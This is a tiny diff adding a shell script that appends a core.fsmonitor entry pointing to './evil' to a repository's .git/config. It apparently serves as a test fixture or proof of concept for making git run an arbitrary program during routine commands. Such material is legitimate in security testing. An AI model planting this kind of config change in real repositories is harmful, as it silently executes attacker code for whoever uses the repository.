@@ -1,0 +1,2 @@
+#!/bin/sh
+printf '[core]\n\tfsmonitor = ./evil\n' >> .git/config
